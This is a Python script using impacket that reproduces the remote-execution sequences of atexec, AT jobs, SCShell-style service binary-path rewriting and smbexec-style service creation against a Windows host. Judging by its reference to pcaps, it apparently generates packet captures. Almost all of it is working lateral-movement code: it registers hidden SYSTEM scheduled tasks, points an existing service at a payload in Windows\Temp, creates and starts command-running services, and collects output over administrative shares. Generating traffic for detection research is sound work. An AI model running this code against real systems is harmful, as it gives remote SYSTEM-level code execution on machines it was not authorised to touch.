#!/usr/bin/python3
"""Service and task scheduler call sequences of remote-execution tools, through impacket's client
library, where the tool itself cannot be run as it is (see pcaps/README.md for which is which).

  --mode atexec-integrity  atexec.py's sequence (SchRpcRegisterTask, SchRpcRun, SchRpcGetLastRunInfo,
                           SchRpcDelete over \\atsvc, then the output read over ADMIN$) with the bind
                           at packet integrity (5) instead of atexec's packet privacy (6)
  --mode at-job            an AT job: ATSVC NetrJobAdd over \\atsvc, the bind unauthenticated
  --mode binpath-rewrite   an existing service's binary path rewritten to a command line with
                           ChangeServiceConfigW, started, and put back (SCShell's sequence)
  --mode tcp-integrity     svcctl over TCP: ept_map on port 135 for svcctl, then at the port it
  --mode tcp-sealed        names, bind with NTLMSSP at packet integrity (5) or privacy (6), and an
                           smbexec-style service: create, start, delete; output read over C$
"""

import time

from impacket.dcerpc.v5 import atsvc, epm, scmr, transport, tsch
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import (RPC_C_AUTHN_LEVEL_PKT_INTEGRITY, RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
                                      DCERPCException)

import common
from common import log

TASK_NAME = "\\WrKcqOxj"
TMP_FILE = "BtuVoMhe.tmp"
COMMAND = "whoami"
REWRITTEN_SERVICE = "XblAuthManager"
REWRITE_PATH = "C:\\Windows\\System32\\cmd.exe /c C:\\Windows\\Temp\\upd.exe"
SMBEXEC_SERVICE = "BTOBTO"
AT_COMMAND = "cmd.exe /c C:\\Windows\\Temp\\upd.bat"


def task_xml(command, arguments):
    # The task definition a remote scheduler tool registers (MS-TSCH 2.5: a Task element with a
    # calendar trigger, a LocalSystem principal, hidden, and one Exec action).
    return """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Triggers>
    <CalendarTrigger>
      <StartBoundary>2026-11-20T09:00:00</StartBoundary>
      <Enabled>true</Enabled>
      <ScheduleByDay>
        <DaysInterval>1</DaysInterval>
      </ScheduleByDay>
    </CalendarTrigger>
  </Triggers>
  <Principals>
    <Principal id="LocalSystem">
      <UserId>S-1-5-18</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>
    <AllowStartOnDemand>true</AllowStartOnDemand>
    <Enabled>true</Enabled>
    <Hidden>true</Hidden>
    <ExecutionTimeLimit>P3D</ExecutionTimeLimit>
    <Priority>7</Priority>
  </Settings>
  <Actions Context="LocalSystem">
    <Exec>
      <Command>%s</Command>
      <Arguments>%s</Arguments>
    </Exec>
  </Actions>
</Task>
""" % (command, arguments.replace("&", "&amp;").replace(">", "&gt;"))


def pipe_dce(args, conn, pipe, level=None):
    rpc = transport.SMBTransport(args.host, args.port, filename=pipe, smb_connection=conn)
    if level is not None:
        rpc.set_credentials(common.USER, common.PASSWORD, common.DOMAIN)
    dce = rpc.get_dce_rpc()
    if level is not None:
        dce.set_credentials(*rpc.get_credentials())
    dce.connect()
    if level is not None:
        dce.set_auth_level(level)
    return dce


def atexec_integrity(args):
    conn = common.connect(args)
    dce = pipe_dce(args, conn, r"\atsvc", RPC_C_AUTHN_LEVEL_PKT_INTEGRITY)
    dce.bind(tsch.MSRPC_UUID_TSCHS)
    xml = task_xml("cmd.exe", "/C %s > %%windir%%\\Temp\\%s 2>&1" % (COMMAND, TMP_FILE))
    tsch.hSchRpcRegisterTask(dce, TASK_NAME, xml, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    log("SchRpcRegisterTask %s" % TASK_NAME)
    tsch.hSchRpcRun(dce, TASK_NAME)
    while tsch.hSchRpcGetLastRunInfo(dce, TASK_NAME)["pLastRuntime"]["wYear"] == 0:
        time.sleep(1)
    tsch.hSchRpcDelete(dce, TASK_NAME)
    out = []
    conn.getFile("ADMIN$", "Temp\\%s" % TMP_FILE, out.append)
    conn.deleteFile("ADMIN$", "Temp\\%s" % TMP_FILE)
    log("output %r" % b"".join(out))
    dce.disconnect()
    common.quiet_close(conn)


def at_job(args):
    conn = common.connect(args)
    dce = pipe_dce(args, conn, r"\atsvc")
    dce.bind(atsvc.MSRPC_UUID_ATSVC)
    info = atsvc.AT_INFO()
    info["JobTime"] = (9 * 3600 + 30 * 60) * 1000  # 09:30, milliseconds after midnight
    info["DaysOfMonth"] = 0
    info["DaysOfWeek"] = 0
    info["Flags"] = 0
    info["Command"] = AT_COMMAND + "\x00"
    resp = atsvc.hNetrJobAdd(dce, NULL, info)
    log("NetrJobAdd -> job %d" % resp["pJobId"])
    dce.disconnect()
    common.quiet_close(conn)


def binpath_rewrite(args):
    conn = common.connect(args)
    dce = pipe_dce(args, conn, r"\svcctl")
    dce.bind(scmr.MSRPC_UUID_SCMR)
    scm = scmr.hROpenSCManagerW(dce, "\\\\%s\x00" % common.SERVER_NAME)["lpScHandle"]
    svc = scmr.hROpenServiceW(dce, scm, REWRITTEN_SERVICE + "\x00")["lpServiceHandle"]
    old = scmr.hRQueryServiceConfigW(dce, svc)["lpServiceConfig"]["lpBinaryPathName"]
    log("%s binary path %r" % (REWRITTEN_SERVICE, old))
    scmr.hRChangeServiceConfigW(dce, svc, lpBinaryPathName=REWRITE_PATH + "\x00")
    try:
        scmr.hRStartServiceW(dce, svc)
    except DCERPCException as e:
        log("StartServiceW: %s" % e)
    scmr.hRChangeServiceConfigW(dce, svc, lpBinaryPathName=old)
    scmr.hRCloseServiceHandle(dce, svc)
    scmr.hRCloseServiceHandle(dce, scm)
    dce.disconnect()
    common.quiet_close(conn)


def tcp_exec(args, level):
    binding = epm.hept_map(args.host, scmr.MSRPC_UUID_SCMR, protocol="ncacn_ip_tcp")
    log("ept_map svcctl -> %s" % binding)
    rpc = transport.DCERPCTransportFactory(binding)
    rpc.set_credentials(common.USER, common.PASSWORD, common.DOMAIN)
    dce = rpc.get_dce_rpc()
    dce.set_auth_level(level)
    dce.connect()
    dce.bind(scmr.MSRPC_UUID_SCMR)
    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    command = ("%%COMSPEC%% /Q /c echo %s ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %%TEMP%%\\execute.bat & "
               "%%COMSPEC%% /Q /c %%TEMP%%\\execute.bat & del %%TEMP%%\\execute.bat" % COMMAND)
    svc = scmr.hRCreateServiceW(dce, scm, SMBEXEC_SERVICE, SMBEXEC_SERVICE, lpBinaryPathName=command,
                                dwStartType=scmr.SERVICE_DEMAND_START)["lpServiceHandle"]
    try:
        scmr.hRStartServiceW(dce, svc)
    except DCERPCException as e:
        log("StartServiceW: %s" % e)
    scmr.hRDeleteService(dce, svc)
    scmr.hRCloseServiceHandle(dce, svc)
    scmr.hRCloseServiceHandle(dce, scm)
    dce.disconnect()
    conn = common.connect(args)
    out = []
    conn.getFile("C$", "__output", out.append)
    conn.deleteFile("C$", "__output")
    log("output %r" % b"".join(out))
    common.quiet_close(conn)


def main():
    ap = common.base_args(__doc__.splitlines()[0])
    ap.add_argument("--mode", required=True, choices=["atexec-integrity", "at-job", "binpath-rewrite",
                                                      "tcp-integrity", "tcp-sealed"])
    args = ap.parse_args()
    if args.mode == "atexec-integrity":
        atexec_integrity(args)
    elif args.mode == "at-job":
        at_job(args)
    elif args.mode == "binpath-rewrite":
        binpath_rewrite(args)
    elif args.mode == "tcp-integrity":
        tcp_exec(args, RPC_C_AUTHN_LEVEL_PKT_INTEGRITY)
    else:
        tcp_exec(args, RPC_C_AUTHN_LEVEL_PKT_PRIVACY)


if __name__ == "__main__":
    main()
